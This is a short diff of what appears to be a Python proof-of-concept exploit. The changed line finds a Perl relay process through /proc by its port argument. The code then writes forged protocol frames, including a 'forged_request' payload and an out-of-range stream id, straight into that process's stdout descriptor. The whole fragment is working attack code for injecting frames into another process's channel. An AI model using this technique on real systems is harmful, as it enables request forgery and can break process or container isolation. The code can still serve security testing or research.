@@ -288,7 +288,8 @@ def frame(kind, stream, payload=b""):
     return struct.pack(">BII", kind, stream, len(payload)) + payload
 def cmdline(pid):
     return open(f"/proc/{pid}/cmdline", "rb").read()
-relay = next(p for p in os.listdir("/proc") if p.isdigit() and cmdline(p).startswith(b"perl\0"))
+# The relay is `perl -e SOURCE -- PORT`; PID 1 of a container is Perl too.
+relay = next(p for p in os.listdir("/proc") if p.isdigit() and cmdline(p).endswith(f"\0--\0{port}\0".encode()))
 out = open(f"/proc/{relay}/fd/1", "wb", buffering=0)
 stream = 4000000000
 out.write(frame(1, stream) + frame(2, stream, forged_request.encode()) + frame(3, stream) + frame(2, 12345, b"x"))
